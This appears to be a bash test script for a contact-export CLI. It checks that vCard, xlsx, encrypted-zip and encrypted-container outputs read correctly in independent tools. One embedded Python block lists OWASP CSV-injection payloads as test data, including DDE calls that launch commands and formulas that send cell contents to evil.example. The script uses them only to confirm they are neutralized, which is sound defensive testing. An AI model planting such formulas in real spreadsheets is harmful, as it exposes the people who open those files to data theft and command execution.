#!/usr/bin/env bash
# Issue #5's bar: Minglu's exports checked by readers nobody on the team wrote — Python's vobject,
# quopri, csv, openpyxl and cryptography, and 7-Zip. Makes every input and output with the CLI
# in a scratch directory; prints one line per check and ends with `N passed, N failed`; exits
# non-zero when anything failed.
#
#   tests/readers/run-export.sh            (builds the CLI unless MINGLU_BIN is set)
#
# Needs: python3 with tests/requirements.txt (pip install -r tests/requirements.txt) and 7z
# (Debian: p7zip-full).
set -uo pipefail
ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
cd "$ROOT"
if [[ -z "${MINGLU_BIN:-}" ]]; then
  cargo build --release --quiet --bin minglu || { echo "cannot build the CLI"; echo "0 passed, 1 failed"; exit 1; }
  MINGLU_BIN="${CARGO_TARGET_DIR:-$ROOT/target}/release/minglu"
fi
PY=${PYTHON:-python3}
CHECK="$PY $ROOT/tests/readers/check_export.py"
WORK=$(mktemp -d "${TMPDIR:-/tmp}/minglu-readers.XXXXXX")
trap 'rm -rf "$WORK"' EXIT
PASS=0
FAIL=0

# check NAME COMMAND…: one check; its output indented; counted.
check() {
  local name=$1; shift
  local out
  if out=$("$@" 2>&1); then
    PASS=$((PASS + 1)); echo "PASS  $name"
  else
    FAIL=$((FAIL + 1)); echo "FAIL  $name"
  fi
  [[ -n "$out" ]] && sed 's/^/      /' <<<"$out"
  return 0
}

m() { "$MINGLU_BIN" "$@" >/dev/null; }
T=2026-11-23T10:00:00+08:00

# A 1,500-person directory, as plain CSV (header on row 1) so Python's csv module reads the
# expected values without Minglu.
IN="$WORK/people.csv"
check "generate 1,500 people" m generate --rows 1500 --seed 7 --layout plain --format csv --out "$IN"

for v in 3 4; do
  check "vCard $v.0 parses with vobject" \
    bash -c "'$MINGLU_BIN' convert '$IN' --to vcard$v --out '$WORK/c$v.vcf' --time $T >/dev/null && $CHECK vcard '$IN' '$WORK/c$v.vcf' $v.0"
done
check "vCard 3.0 with CHARSET=UTF-8 (iOS) parses with vobject" \
  bash -c "'$MINGLU_BIN' convert '$IN' --to vcard3 --vcard-charset --out '$WORK/c3i.vcf' --time $T >/dev/null && $CHECK vcard '$IN' '$WORK/c3i.vcf' 3.0"
check "vCard 2.1 decodes as quoted-printable" \
  bash -c "'$MINGLU_BIN' convert '$IN' --to vcard21 --out '$WORK/c21.vcf' --time $T >/dev/null && $CHECK vcard21 '$IN' '$WORK/c21.vcf'"
check "xlsx reads in openpyxl with phones as strings" \
  bash -c "'$MINGLU_BIN' convert '$IN' --to xlsx --out '$WORK/t.xlsx' --time $T >/dev/null && $CHECK xlsx '$IN' '$WORK/t.xlsx'"

# Encrypted zip: 7-Zip extracts it with the password, refuses a wrong one.
export MINGLU_TEST_PW='名录 7z pass'
export MINGLU_TEST_BAD='wrong pass'
m convert "$IN" --to vcard3 --out "$WORK/plain.vcf" --time $T
check "make the encrypted zip" m convert "$IN" --to vcard3 --out "$WORK/c.zip" --encrypt zip --password-env MINGLU_TEST_PW --time $T
seven_ok() {
  mkdir -p "$WORK/7z-ok" && 7z x -y -p"$MINGLU_TEST_PW" -o"$WORK/7z-ok" "$WORK/c.zip" >/dev/null \
    && cmp "$WORK/7z-ok/c.vcf" "$WORK/plain.vcf" \
    && [[ -s "$WORK/7z-ok/c.vcf.manifest.json" && -s "$WORK/7z-ok/c.vcf.manifest.txt" ]] \
    && 7z l -slt "$WORK/c.zip" | grep -q '^Method = AES-256 Deflate' \
    && echo "7z extracted c.vcf (identical to the unencrypted export) and its manifest; method AES-256"
}
seven_bad() {
  mkdir -p "$WORK/7z-bad"
  if 7z x -y -p"$MINGLU_TEST_BAD" -o"$WORK/7z-bad" "$WORK/c.zip" >/dev/null 2>&1; then
    echo "7z accepted a wrong password"; return 1
  fi
  if grep -rqs 'BEGIN:VCARD' "$WORK/7z-bad"; then echo "plaintext came out with a wrong password"; return 1; fi
  echo "7z x with a wrong password fails (exit status non-zero), no plaintext"
}
check "7z x -pPASSWORD extracts the encrypted zip" seven_ok
check "7z x with a wrong password fails" seven_bad

# Container: Python's cryptography decrypts it by following docs/container-format.md.
m convert "$IN" --to csv --out "$WORK/plain.csv" --time $T
check "container (PBKDF2) decrypts with cryptography" \
  bash -c "'$MINGLU_BIN' convert '$IN' --to csv --out '$WORK/c.csv.minglu' --encrypt container --password-env MINGLU_TEST_PW --time $T >/dev/null && $CHECK container '$WORK/c.csv.minglu' \"\$MINGLU_TEST_PW\" '$WORK/plain.csv'"
check "container (Argon2id) decrypts with cryptography" \
  bash -c "'$MINGLU_BIN' convert '$IN' --to csv --out '$WORK/a.csv.minglu' --encrypt container --kdf argon2id --password-env MINGLU_TEST_PW --time $T >/dev/null && $CHECK container '$WORK/a.csv.minglu' \"\$MINGLU_TEST_PW\" '$WORK/plain.csv'"
check "the published test vector decrypts" $CHECK vector "$ROOT/docs/container-format.md"
decrypt_bad() {
  "$MINGLU_BIN" decrypt "$WORK/c.csv.minglu" --out "$WORK/never.csv" --password-env MINGLU_TEST_BAD 2>"$WORK/err"
  local rc=$?
  [[ $rc == 2 && ! -e "$WORK/never.csv" ]] && grep -q 'wrong password or the file was modified' "$WORK/err" \
    && echo "exit status $rc: $(cat "$WORK/err")"
}
check "minglu decrypt: wrong password exits 2, writes nothing" decrypt_bad

# CSV injection: every OWASP payload, in CSV (UTF-8 and GBK), xlsx and a template.
$PY - "$WORK" <<'PY'
import csv, json, sys
work = sys.argv[1]
payloads = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+2\";=1+2",
    "\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", " @SUM(A1:A9)", "-", "+",
]
mobiles = ["+8613800138000", "+852-59123456"]
with open(f"{work}/payloads.csv", "w", encoding="utf-8", newline="") as f:
    w = csv.writer(f)
    w.writerow(["姓名", "手机", "职务", "备注", "=HYPERLINK(\"http://evil.example\")"])
    for i, p in enumerate(payloads):
        w.writerow([p, mobiles[i % 2], p, p, p])
json.dump({"payloads": payloads, "phones": mobiles}, open(f"{work}/generic.json", "w"))
json.dump({"payloads": payloads, "phones": ["+852-59123456"]}, open(f"{work}/dingtalk.json", "w"))
PY
P="$WORK/payloads.csv"
check "OWASP payloads neutralized in CSV and xlsx; phones survive" bash -c "
  '$MINGLU_BIN' convert '$P' --to csv --out '$WORK/i.csv' >/dev/null &&
  '$MINGLU_BIN' convert '$P' --to csv-gbk --out '$WORK/i-gbk.csv' >/dev/null &&
  iconv -f GBK -t UTF-8 '$WORK/i-gbk.csv' > '$WORK/i-gbk-utf8.csv' &&
  '$MINGLU_BIN' convert '$P' --to xlsx --out '$WORK/i.xlsx' >/dev/null &&
  $CHECK injection '$WORK/generic.json' '$WORK/i.csv' '$WORK/i-gbk-utf8.csv' '$WORK/i.xlsx'"
check "OWASP payloads neutralized in the DingTalk template; +852- phones survive" bash -c "
  '$MINGLU_BIN' convert '$P' --to dingtalk --out '$WORK/i-d.xlsx' >/dev/null &&
  '$MINGLU_BIN' convert '$P' --to dingtalk --as csv --out '$WORK/i-d.csv' >/dev/null &&
  $CHECK injection '$WORK/dingtalk.json' '$WORK/i-d.xlsx' '$WORK/i-d.csv'"

echo "$PASS passed, $FAIL failed"
(( FAIL == 0 ))
